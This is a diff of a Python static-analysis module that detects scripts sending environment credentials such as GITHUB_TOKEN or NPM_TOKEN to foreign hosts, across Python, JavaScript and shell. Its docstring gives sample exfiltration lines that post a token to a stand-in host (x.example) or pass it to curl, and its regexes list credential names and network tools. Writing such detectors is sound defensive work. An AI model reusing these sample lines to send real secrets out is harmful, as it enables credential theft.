@@ -1,16 +1,26 @@
 """A well-known credential read from the environment and handed to a request to another host,
-in a Python or JavaScript script (`secret-in-url`): `token = os.environ['GITHUB_TOKEN']` then
-`requests.post("https://x.example/t", data=token)`, `const { NPM_TOKEN } = process.env` then
+in a Python, JavaScript or shell script (`secret-in-url`): `token = os.environ['GITHUB_TOKEN']`
+then `requests.post("https://x.example/t", data=token)`, `const { NPM_TOKEN } = process.env` then
 `fetch(URL, {body: NPM_TOKEN})` with `URL` a literal elsewhere in the file.
 
-Text-based and linear: each request call's arguments are read up to its closing bracket (at most
-`_ARGS_MAX` characters), once. The credentials and their own services are those of the
-`secret-in-url` rule in rules.yaml.
+The credential is followed through the common shapes: a name or a dict/object built from it
+(`h = {"Authorization": f"token {os.environ['GITHUB_TOKEN']}"}` then `headers=h`), a function's
+parameter (`def send(tok): requests.post(URL, data=tok)` then `send(token)`), a thin wrapper
+whose URL is a parameter (`def ship(url, body): return urlopen(url, data=body)`), and in shell
+a variable (`H="Authorization: token $GITHUB_TOKEN"` then `curl -H "$H" …`) or a function's
+`$1`/`"$@"`.
+
+Text-based and linear in the file: brackets are matched once, each assignment's value and each
+call's arguments are read at their own nesting level only (nested brackets are jumped over), and
+"does this span hold the credential" is a binary search in the sorted positions where it is.
+The credentials and their own services are those of the `secret-in-url` rule in rules.yaml.
 """
 
 from __future__ import annotations
 
+import bisect
 import re
+from dataclasses import dataclass, field
 
 from orkestra.intake.pyaudit import Hit
 
@@ -20,7 +30,7 @@ _CREDS = (
     r"|ANTHROPIC_API_KEY|CLAUDE_API_KEY|HF_TOKEN|HUGGING_FACE_HUB_TOKEN|CARGO_REGISTRY_TOKEN"
     r"|DOCKER_PASSWORD|DOCKERHUB_TOKEN|SLACK_(?:BOT_)?TOKEN|STRIPE_SECRET_KEY)"
 )
-_ANY = re.compile(rf"\b{_CREDS}\b")
+_ANY = re.compile(rf"\b{_CREDS}\b|\bgh\s+auth\s+token\b")
 _OWN = re.compile(
     r"(?:^|\.)(?:github\.com|ghe\.com|githubusercontent\.com|ghcr\.io|npmjs\.org|npmjs\.com|pypi\.org"
     r"|openai\.com|anthropic\.com|huggingface\.co|crates\.io|docker\.io|docker\.com|slack\.com"
@@ -32,8 +42,6 @@ _READ = re.compile(
     rf"(?:\bos\.environ(?:\[\s*|\.get\(\s*)|\bos\.getenv\(\s*|\bgetenv\(\s*)[\"']{_CREDS}[\"']"
     rf"|\bprocess\.env(?:\.|\[\s*[\"'`]){_CREDS}\b"
 )
-#: a name bound to one: `token = os.environ['GITHUB_TOKEN']`, `const t = process.env.NPM_TOKEN`
-_BOUND = re.compile(rf"\b([A-Za-z_]\w*)[ \t]*(?::[ \t]*\w+[ \t]*)?=[ \t]*(?:{_READ.pattern})")
 _DESTRUCTURED = re.compile(r"\b(?:const|let|var)\s*\{([^}]{0,400})\}\s*=\s*process\.env\b")
 _URL_NAME = re.compile(
     r"^[ \t]*(?:(?:export\s+)?(?:const|let|var)\s+)?([A-Za-z_]\w*)[ \t]*(?::[ \t]*\w+[ \t]*)?=[ \t]*"
@@ -46,53 +54,587 @@ _CALL = re.compile(
     r"(?:f?[\"'`](https?://[^\"'`\s]+)[\"'`]|([A-Za-z_]\w*)\b(?!\s*[.(\[]))"
 )
 _HOST = re.compile(r"https?://(?:[^\s/@]*@)?([\w.-]+)")
-_BRACKET = re.compile(r"[()]")
 _ARGS_MAX = 4000
+_PARAMS_MAX = 32  # parameters of one function followed (the rest are not)
+
+#: a statement-level assignment: `h = {…}`, `const opts = {…}`, `s.headers["X"] = …`,
+#: `x: dict[str, str] = …` (a keyword argument `data=…` inside a call is not one)
+_ASSIGN = re.compile(
+    r"^[ \t]*(?:(?:export[ \t]+)?(?:const|let|var)[ \t]+)?([A-Za-z_$][\w$]*)"
+    r"(?:\[[^\]\n]{0,200}\]|\.[A-Za-z_$][\w$]*)*[ \t]*(?::[^=\n]{1,80})?(?<![=!<>+\-*/%&|^])=(?!=)",
+    re.M,
+)
+_NAME = re.compile(r"[A-Za-z_$][\w$]*")
+_OPENER = re.compile(r"[(\[{]")
+_ARG_STOP = re.compile(r"[,(\[{]")
+_PY_DEF = re.compile(r"^([ \t]*)(?:async[ \t]+)?def[ \t]+([A-Za-z_]\w*)[ \t]*\(", re.M)
+_JS_FUNCTION = re.compile(
+    r"\bfunction\b[ \t]*\*?[ \t]*([A-Za-z_$][\w$]*)[ \t]*\("
+    r"|\b(?:const|let|var)[ \t]+([A-Za-z_$][\w$]*)[ \t]*=[ \t]*(?:async[ \t]*)?"
+    r"(?:function\b[ \t]*\*?[ \t]*[\w$]*[ \t]*\(|\((?=[^()\n]*\)[ \t]*=>)|([A-Za-z_$][\w$]*)[ \t]*=>)"
+)
+_CALLED = re.compile(r"(?<![\w$])([A-Za-z_$][\w$]*)[ \t]*\(")
+_KEYWORD_ARG = re.compile(r"\s*([A-Za-z_]\w*)\s*=(?!=)")
+_SPREAD = re.compile(r"\s*(?:\*\*?|\.\.\.)")
+_PARAM_NAME = re.compile(r"[\s*.]*([A-Za-z_$][\w$]*)")
 
 
-def credential_flow(text: str) -> list[Hit]:
+@dataclass
+class _Function:
+    name: str
+    params: list[str]
+    body: tuple[int, int]
+    #: kind A: parameter -> the foreign host it is sent to; kind B: index of the URL parameter
+    sends: dict[str, str] = field(default_factory=dict)
+    url_param: int | None = None
+    defaults: dict[str, tuple[int, int]] = field(default_factory=dict)
+    #: locals built from a parameter -> that parameter
+    carries: dict[str, str] = field(default_factory=dict)
+
+
+def credential_flow(text: str, lang: str = "python") -> list[Hit]:
     """`secret-in-url` hits: a request to a literal URL of another host (or a name holding one)
-    whose arguments hold a well-known credential read from the environment."""
+    whose arguments hold a well-known credential read from the environment, directly or
+    through a name, a dict, a function's parameter or a wrapper. `lang`: python, js or shell."""
     if _ANY.search(text) is None:
         return []
-    names = {m.group(1) for m in _BOUND.finditer(text)}
-    for m in _DESTRUCTURED.finditer(text):
-        for part in m.group(1).split(","):
-            key, _, alias = part.partition(":")
-            if _ANY.fullmatch(key.strip()):
-                names.add((alias or key).strip().split("=")[0].strip())
-    urls = {m.group(1): m.group(2) for m in _URL_NAME.finditer(text)}
-    used = (
-        re.compile(r"(?<![\"'\w.])(?:" + "|".join(map(re.escape, sorted(names))) + r")(?![\"'\w])")
-        if names
-        else None
-    )
-    hits = []
-    # nested calls re-read their callers' arguments: the reading stays linear in the file
-    budget = 4 * len(text) + (1 << 16)
-    for call in _CALL.finditer(text):
-        url = call.group(1) or urls.get(call.group(2) or "")
+    if lang == "shell":
+        return _shell_flow(text)
+    return _Flow(text, lang).hits()
+
+
+class _Flow:
+    """One Python or JavaScript file: its brackets, names and calls, each read once."""
+
+    def __init__(self, text: str, lang: str) -> None:
+        self.text = text
+        self.lang = lang
+        self.close = _match_brackets(text)
+        self.sources = [(m.start(), m.group(0)) for m in _READ.finditer(text)]
+        self.urls = {m.group(1): m.group(2) for m in _URL_NAME.finditer(text)}
+        self.starts: list[int] | None = None
+
+    def line(self, at: int) -> int:
+        """The line number of position `at` (line starts found once)."""
+        if self.starts is None:
+            self.starts = [0, *(m.end() for m in re.finditer("\n", self.text))]
+        return bisect.bisect_right(self.starts, at)
+
+    def hits(self) -> list[Hit]:
+        text = self.text
+        tainted: set[str] = set()
+        for m in _DESTRUCTURED.finditer(text):
+            for part in m.group(1).split(","):
+                key, _, alias = part.partition(":")
+                if _ANY.fullmatch(key.strip()):
+                    tainted.add((alias or key).strip().split("=")[0].strip())
+        if not self.sources and not tainted:
+            return []
+        functions = self._functions()
+        assigns = [(m.group(1), m.end(), self._extent(m.end())) for m in _ASSIGN.finditer(text)]
+        names = {name for name, _, _ in assigns} | tainted
+        for function in functions:
+            names.update(p.lstrip("*") for p in function.params)
+        self.tokens = _tokens(text, names)
+        self.by_name: dict[str, list[int]] = {}
+        for at, name in self.tokens:
+            self.by_name.setdefault(name, []).append(at)
+        for function in functions:  # a parameter whose default is the credential
+            for name, (start, end) in self._param_spans(function):
+                if self._first_source(start, end) is not None:
+                    tainted.add(name)
+        for _ in range(2):  # twice: a name used above the line that binds it
+            tainted |= self._propagate(assigns, tainted)
+        self.hot = sorted(
+            [*self.sources, *((at, name) for at, name in self.tokens if name in tainted)]
+        )
+        self.hot_at = [at for at, _ in self.hot]
+        # a local built from a parameter carries it: `h = {"A": f"token {tok}"}` in `send(tok)`
+        owners = self._innermost([start for _, start, _ in assigns], functions)
+        for (name, start, end), owner in zip(assigns, owners, strict=True):
+            if owner is None or len(owner.carries) >= _PARAMS_MAX:
+                continue
+            for param in [*owner.params[:_PARAMS_MAX], *owner.carries]:
+                if self._uses(param.lstrip("*"), start, end):
+                    owner.carries.setdefault(name, owner.carries.get(param, param.lstrip("*")))
+                    break
+        calls = list(_CALL.finditer(text))
+        found: dict[int, Hit] = {}
+        inners = self._innermost([call.start() for call in calls], functions)
+        for call, inner in zip(calls, inners, strict=True):
+            self._direct(call, inner, tainted, found)
+        derived = {f.name: f for f in functions if f.sends or f.url_param is not None}
+        if derived:
+            self._through(derived, found)
+        return [found[at] for at in sorted(found)]
+
+    # --- reading -------------------------------------------------------------------------
+
+    def _extent(self, start: int) -> int:
+        """The end of a statement's value from `start`: its line, carried on while a bracket
+        opened on it is still open (nested brackets are jumped over, not read)."""
+        text = self.text
+        end = _line_end(text, start)
+        at = start
+        while True:
+            opener = _OPENER.search(text, at, end)
+            if opener is None:
+                return end
+            closing = self.close.get(opener.start())
+            if closing is None:
+                return min(len(text), opener.start() + _ARGS_MAX)
+            at = closing + 1
+            if closing >= end:
+                end = _line_end(text, closing)
+
+    def _args_end(self, open_at: int) -> int:
+        closing = self.close.get(open_at)
+        return closing if closing is not None else min(len(self.text), open_at + _ARGS_MAX)
+
+    def _first_source(self, start: int, end: int) -> str | None:
+        at = bisect.bisect_left(self.sources, (start, ""))
+        if at < len(self.sources) and self.sources[at][0] < end:
+            return self.sources[at][1]
+        return None
+
+    def _first_hot(self, start: int, end: int) -> str | None:
+        at = bisect.bisect_left(self.hot_at, start)
+        if at < len(self.hot_at) and self.hot_at[at] < end:
+            return self.hot[at][1]
+        return None
+
+    def _propagate(self, assigns: list[tuple[str, int, int]], tainted: set[str]) -> set[str]:
+        """Names whose value holds the credential or a name that does, in one sweep over the
+        values (an inner value that holds it makes the one around it hold it too)."""
+        events: list[tuple[int, int, int]] = []  # (position, order, index): close, open, use
+        for index, (_, start, end) in enumerate(assigns):
+            events.append((start, 1, index))
+            events.append((end, 0, index))
+        for at, _ in self.sources:
+            events.append((at, 2, -1))
+        for index, (at, _) in enumerate(self.tokens):
+            events.append((at, 3, index))
+        events.sort()
+        stack: list[int] = []
+        opened: set[int] = set()
+        hot: set[int] = set()
+        found = set(tainted)
+        for _, order, index in events:
+            if order == 1:
+                stack.append(index)
+                opened.add(index)
+            elif order >= 2:  # a read, or a name found to hold the credential by now
+                if stack and (order == 2 or self.tokens[index][1] in found):
+                    hot.add(stack[-1])
+            elif index in opened:
+                while stack:
+                    top = stack.pop()
+                    opened.discard(top)
+                    if top in hot:
+                        found.add(assigns[top][0])
+                        if stack:
+                            hot.add(stack[-1])
+                    if top == index:
+                        break
+        return found
+
+    def _functions(self) -> list[_Function]:
+        text = self.text
+        found: list[_Function] = []
+        if self.lang == "python":
+            defs = list(_PY_DEF.finditer(text))
+            ends = _python_blocks(text, [(m.start(), len(m.group(1))) for m in defs])
+            for m, end in zip(defs, ends, strict=True):
+                open_at = m.end() - 1
+                close = self._args_end(open_at)
+                params, given = _params(text, open_at + 1, close, self.close)
+                found.append(_Function(m.group(2), params, (close, end), defaults=given))
+            return found
+        for m in _JS_FUNCTION.finditer(text):
+            name = m.group(1) or m.group(2)
+            defaults: dict[str, tuple[int, int]] = {}
+            if m.group(3):  # `const f = tok => …`
+                params, after = [m.group(3)], m.end()
+            else:
+                open_at = m.end() - 1
+                close = self._args_end(open_at)
+                params, defaults = _params(text, open_at + 1, close, self.close)
+                after = close + 1
+            body = re.compile(r"[ \t]*(?:=>[ \t]*)?(\{)?").match(text, after)
+            if body is not None and body.group(1):
+                start = body.start(1)
+                end = self.close.get(start, min(len(text), start + _ARGS_MAX))
+            else:
+                start = body.end() if body is not None else after
+                end = self._extent(start)
+            found.append(_Function(name, params, (start, end), defaults=defaults))
+        return found
+
+    def _param_spans(self, function: _Function) -> list[tuple[str, tuple[int, int]]]:
+        """(parameter, span of its default value) for the parameters given one."""
+        return list(function.defaults.items())
+
+    @staticmethod
+    def _innermost(positions: list[int], functions: list[_Function]) -> list[_Function | None]:
+        """For each position (ascending), the innermost function whose body holds it."""
+        order = sorted(functions, key=lambda f: (f.body[0], -f.body[1]))
+        out: list[_Function | None] = []
+        stack: list[_Function] = []
+        index = 0
+        for at in positions:
+            while index < len(order) and order[index].body[0] <= at:
+                function = order[index]
+                index += 1
+                while stack and stack[-1].body[1] <= function.body[0]:
+                    stack.pop()
+                stack.append(function)
+            while stack and stack[-1].body[1] <= at:
+                stack.pop()
+            out.append(stack[-1] if stack else None)
+        return out
+
+    # --- judging -------------------------------------------------------------------------
+
+    def _direct(
+        self,
+        call: re.Match[str],
+        function: _Function | None,
+        tainted: set[str],
+        found: dict[int, Hit],
+    ) -> None:
+        text = self.text
+        open_at = text.index("(", call.start())
+        args = (call.end(), self._args_end(open_at))
+        name = call.group(2)
+        wrapper = function is not None and call.group(1) is None and name not in self.urls
+        if function is not None and wrapper and name in function.params:
+            function.url_param = function.params.index(name)  # the URL is the caller's
+            return
+        url = call.group(1) or self.urls.get(name or "")
         host = _HOST.match(url or "")
         if host is None or _OWN.search(host.group(1)):
+            return
+        sent = self._first_hot(*args)
+        owner = _owner(text, call.start())
+        if sent is None and owner in tainted:  # `session.post(…)` with the token in its headers
+            sent = owner
+        if sent is not None:
+            found.setdefault(call.start(), _hit(self.line(call.start()), sent, host.group(1)))
+        if function is not None:
+            for param in function.params[:_PARAMS_MAX]:
+                if self._uses(param.lstrip("*"), *args):
+                    function.sends.setdefault(param.lstrip("*"), host.group(1))
+            for local, param in function.carries.items():
+                if self._uses(local, *args):
+                    function.sends.setdefault(param, host.group(1))
+
+    def _uses(self, name: str, start: int, end: int) -> bool:
+        positions = self.by_name.get(name, [])
+        at = bisect.bisect_left(positions, start)
+        return at < len(positions) and positions[at] < end
+
+    def _through(self, derived: dict[str, _Function], found: dict[int, Hit]) -> None:
+        """Calls of a function that sends a parameter to another host, or of a wrapper whose
+        URL is a parameter, with the credential in the arguments."""
+        text = self.text
+        for call in _CALLED.finditer(text):
+            if call.group(1) not in derived:
+                continue
+            before = text[max(0, call.start() - 9) : call.start()]
+            if re.search(r"(?:\bdef|\bfunction)\s+$", before):
+                continue
+            function = derived[call.group(1)]
+            open_at = call.end() - 1
+            positional, keywords = self._split(open_at + 1, self._args_end(open_at))
+            params = function.params
+            if params and params[0] in ("self", "cls") and before.endswith("."):
+                params = params[1:]
+            line = self.line(call.start())
+            spread = next((p for p in params if p.startswith("*")), None)
+            bound: list[tuple[str, tuple[int, int]]] = []
+            for index, span in enumerate(positional):
+                if index < len(params) and not params[index].startswith("*"):
+                    bound.append((params[index], span))
+                elif spread is not None:
+                    bound.append((spread, span))
+            for name, span in keywords:
+                kw = next((p for p in params if p.startswith("**")), None)
+                bound.append((name if name in params or kw is None else kw, span))
+            for name, span in bound:
+                host = function.sends.get(name.lstrip("*"))
+                sent = self._first_hot(*span) if host is not None else None
+                if host is not None and sent is not None:
+                    found.setdefault(call.start(), _hit(line, sent, host))
+                    break
+            if function.url_param is None or call.start() in found:
+                continue
+            url_name = function.params[function.url_param]
+            url_span = next((s for n, s in bound if n == url_name), None)
+            if url_span is None:
+                continue
+            literal = text[url_span[0] : url_span[1]].strip()
+            given = re.match(r"f?[\"'`](https?://[^\"'`\s]+)[\"'`]", literal)
+            url = given.group(1) if given else self.urls.get(literal)
+            target = _HOST.match(url or "")
+            if target is None or _OWN.search(target.group(1)):
+                continue
+            for name, span in bound:
+                sent = self._first_hot(*span) if name != url_name else None
+                if sent is not None:
+                    found.setdefault(call.start(), _hit(line, sent, target.group(1)))
+                    break
+
+    def _split(
+        self, start: int, end: int
+    ) -> tuple[list[tuple[int, int]], list[tuple[str, tuple[int, int]]]]:
+        """A call's arguments at its own level: positional spans and (keyword, span)."""
+        text = self.text
+        pieces: list[tuple[int, int]] = []
+        at, begin = start, start
+        while True:
+            stop = _ARG_STOP.search(text, at, end)
+            if stop is None:
+                pieces.append((begin, end))
+                break
+            if stop.group(0) == ",":
+                pieces.append((begin, stop.start()))
+                at = begin = stop.end()
+            else:
+                closing = self.close.get(stop.start())
+                if closing is None or closing >= end:
+                    pieces.append((begin, end))
+                    break
+                at = closing + 1
+        positional: list[tuple[int, int]] = []
+        keywords: list[tuple[str, tuple[int, int]]] = []
+        for begin, stop_at in pieces:
+            if not text[begin:stop_at].strip():
+                continue
+            keyword = _KEYWORD_ARG.match(text, begin, stop_at)
+            if keyword is not None and self.lang == "python":
+                keywords.append((keyword.group(1), (keyword.end(), stop_at)))
+            elif _SPREAD.match(text, begin, stop_at) and self.lang == "python":
+                keywords.append(("**", (begin, stop_at)))
+            else:
+                positional.append((begin, stop_at))
+        return positional, keywords
+
+
+def _hit(line: int, sent: str, host: str) -> Hit:
+    return Hit("secret-in-url", line, f"sends {sent} to {host}")
+
+
+def _owner(text: str, at: int) -> str | None:
+    """`session` in `session.post(`: the object a request method is called on."""
+    match = re.search(r"([A-Za-z_$][\w$]*)\s*\.\s*$", text[max(0, at - 80) : at])
+    return match.group(1) if match else None
+
+
+def _line_end(text: str, at: int) -> int:
+    end = text.find("\n", at)
+    return len(text) if end == -1 else end
+
+
+def _match_brackets(text: str) -> dict[int, int]:
+    """Open bracket position -> its closing bracket's, each kind matched on its own stack (a
+    bracket inside a string throws off only its own kind)."""
+    stacks: dict[str, list[int]] = {"(": [], "[": [], "{": []}
+    pairs = {")": "(", "]": "[", "}": "{"}
+    close: dict[int, int] = {}
+    for m in re.finditer(r"[()\[\]{}]", text):
+        char = m.group(0)
+        if char in stacks:
+            stacks[char].append(m.start())
+        else:
+            stack = stacks[pairs[char]]
+            if stack:
+                close[stack.pop()] = m.start()
+    return close
+
+
+def _tokens(text: str, names: set[str]) -> list[tuple[int, str]]:
+    """Uses of `names`: not an attribute (`x.h`), not in quotes (`"h"`), not a keyword argument
+    or key being given (`h=`, `h:`), sorted by position."""
+    out = []
+    for m in _NAME.finditer(text):
+        name = m.group(0)
+        if name not in names:
             continue
-        args = _arguments(text, call.end())
-        budget -= len(args)
-        if budget < 0:
+        start, end = m.start(), m.end()
+        before = text[start - 1] if start else ""
+        if before in "\"'." or before.isalnum():
+            continue
+        after = text[end : end + 3].lstrip(" \t")
+        if (
+            after[:1] in ('"', "'")
+            or (after[:1] == "=" and after[1:2] != "=")
+            or (after[:1] == ":" and after[1:2] != ":")
+        ):
+            continue
+        out.append((start, name))
+    return out
+
+
+def _params(
+    text: str, start: int, end: int, close: dict[int, int]
+) -> tuple[list[str], dict[str, tuple[int, int]]]:
+    """A parameter list's names in order (`*args`/`**kw` kept with their stars) and the span of
+    each default value given."""
+    pieces: list[tuple[int, int]] = []
+    at, begin = start, start
+    while True:
+        stop = _ARG_STOP.search(text, at, end)
+        if stop is None:
+            pieces.append((begin, end))
             break
-        sent = _READ.search(args) or (used.search(args) if used else None)
-        if sent:
-            line = text.count("\n", 0, call.start()) + 1
-            hits.append(Hit("secret-in-url", line, f"sends {sent.group(0)} to {host.group(1)}"))
-    return hits
+        if stop.group(0) == ",":
+            pieces.append((begin, stop.start()))
+            at = begin = stop.end()
+        else:
+            closing = close.get(stop.start())
+            if closing is None or closing >= end:
+                pieces.append((begin, end))
+                break
+            at = closing + 1
+    names: list[str] = []
+    defaults: dict[str, tuple[int, int]] = {}
+    for begin, stop_at in pieces:
+        piece = text[begin:stop_at]
+        match = _PARAM_NAME.match(piece)
+        if match is None:
+            continue
+        stars = piece.strip()[:2]
+        prefix = "**" if stars == "**" else "*" if stars[:1] == "*" or stars == ".." else ""
+        names.append(prefix + match.group(1))
+        equals = piece.find("=", match.end())
+        if equals != -1 and piece[equals + 1 : equals + 2] != "=":
+            defaults[match.group(1)] = (begin + equals + 1, stop_at)
+    return names, defaults
 
 
-def _arguments(text: str, start: int) -> str:
-    """The rest of a call's arguments from `start` (just inside its open bracket) up to its
-    closing bracket, at most `_ARGS_MAX` characters."""
-    depth = 1
-    end = min(len(text), start + _ARGS_MAX)
-    for bracket in _BRACKET.finditer(text, start, end):
-        depth += 1 if bracket.group(0) == "(" else -1
-        if depth == 0:
-            return text[start : bracket.start()]
-    return text[start:end]
+def _python_blocks(text: str, defs: list[tuple[int, int]]) -> list[int]:
+    """The end of each `def` block (start, indent) in one pass: where a later non-blank,
+    non-comment line is indented no deeper than the `def`."""
+    ends = [len(text)] * len(defs)
+    stack: list[tuple[int, int]] = []  # (indent, index)
+    index = 0
+    at = 0
+    while at <= len(text):
+        end = _line_end(text, at)
+        line = text[at:end]
+        stripped = line.lstrip(" \t")
+        if stripped and not stripped.startswith("#"):
+            indent = len(line) - len(stripped)
+            while index < len(defs) and defs[index][0] < at:
+                index += 1
+            is_def = index < len(defs) and defs[index][0] == at
+            while stack and stack[-1][0] >= indent:
+                ends[stack.pop()[1]] = at
+            if is_def:
+                stack.append((indent, index))
+        at = end + 1
+    return ends
+
+
+# --- shell ---------------------------------------------------------------------------------
+
+_SH_SOURCE = re.compile(rf"\$\{{?{_CREDS}\b|\$\(\s*(?:gh\s+auth\s+token|printenv\s+{_CREDS})\s*\)")
+_SH_ASSIGN = re.compile(
+    r"^[ \t]*(?:(?:export|local|readonly|declare(?:[ \t]+-\w+)*)[ \t]+)?([A-Za-z_]\w*)=(.*)$"
+)
+_SH_FUNCTION = re.compile(
+    r"^[ \t]*(?:function[ \t]+([A-Za-z_][\w-]*)[ \t]*(?:\(\))?|([A-Za-z_][\w-]*)[ \t]*\(\))[ \t]*\{?"
+)
+_SH_NET = re.compile(r"(?:^|[;&|({`]|\$\()[ \t]*(?:sudo[ \t]+)?(?:curl|wget|xh|https?)\b")
+_SH_VAR = re.compile(r"\$(?:\{([A-Za-z_]\w*)[^}]*\}|([A-Za-z_]\w*))")
+_SH_POSITIONAL = re.compile(r"\$(?:\{([1-9@*])\}|([1-9@*]))")
+_SH_URL = re.compile(r"https?://(?:[^\s/@\"'`]*@)?([\w.-]+)")
+_SH_WORD = re.compile(r"\"(?:[^\"\\]|\\.)*\"|'[^']*'|[^\s;&|]+")
+
+
+def _shell_flow(text: str) -> list[Hit]:
+    lines = text.split("\n")
+    tainted: set[str] = set()
+    urls: dict[str, str] = {}
+    for _ in range(2):
+        for line in lines:
+            match = _SH_ASSIGN.match(line)
+            if match is None:
+                continue
+            value = match.group(2)
+            url = _SH_URL.search(value)
+            if url is not None and value.lstrip("\"'").startswith(url.group(0)):
+                urls[match.group(1)] = url.group(1)
+            if _SH_SOURCE.search(value) or any(
+                (v.group(1) or v.group(2)) in tainted for v in _SH_VAR.finditer(value)
+            ):
+                tainted.add(match.group(1))
+
+    def hot(words: str) -> str | None:
+        source = _SH_SOURCE.search(words)
+        if source is not None:
+            return source.group(0)
+        for v in _SH_VAR.finditer(words):
+            if (v.group(1) or v.group(2)) in tainted:
+                return v.group(0)
+        return None
+
+    def foreign(line: str) -> str | None:
+        for url in _SH_URL.finditer(line):
+            if not _OWN.search(url.group(1)):
+                return url.group(1)
+        for v in _SH_VAR.finditer(line):
+            host = urls.get(v.group(1) or v.group(2) or "")
+            if host is not None and not _OWN.search(host):
+                return host
+        return None
+
+    hits: list[Hit] = []
+    sends: dict[str, tuple[set[str], str]] = {}  # kind A: function -> ($1…, host)
+    wrappers: set[str] = set()  # kind B: the URL is an argument
+    inside: str | None = None
+    depth = 0
+    for number, line in enumerate(lines, 1):
+        if inside is None:
+            match = _SH_FUNCTION.match(line)
+            if match is not None:
+                inside = match.group(1) or match.group(2)
+                depth = 0
+        if _SH_NET.search(line):
+            host = foreign(line)
+            sent = hot(line)
+            if host is not None and sent is not None:
+                hits.append(_hit(number, sent, host))
+            if inside is not None:
+                used = {p.group(1) or p.group(2) for p in _SH_POSITIONAL.finditer(line)}
+                if used and host is not None:
+                    known = sends.setdefault(inside, (set(), host))
+                    known[0].update(used)
+                elif used and _SH_URL.search(line) is None:
+                    wrappers.add(inside)
+        if inside is not None:
+            depth += line.count("{") - line.count("}")
+            if depth <= 0 and "}" in line:
+                inside = None
+    if not sends and not wrappers:
+        return hits
+    seen = {h.line for h in hits}
+    for number, line in enumerate(lines, 1):
+        words = _SH_WORD.findall(line)
+        if not words or number in seen:
+            continue
+        name = words[0]
+        args = words[1:]
+        if name in sends:
+            used, host = sends[name]
+            for index, arg in enumerate(args, 1):
+                sent = hot(arg)
+                if sent is not None and (str(index) in used or used & {"@", "*"}):
+                    hits.append(_hit(number, sent, host))
+                    break
+        elif name in wrappers:
+            host = foreign(" ".join(args))
+            sent = hot(" ".join(args))
+            if host is not None and sent is not None:
+                hits.append(_hit(number, sent, host))
+    return sorted(hits, key=lambda h: h.line)
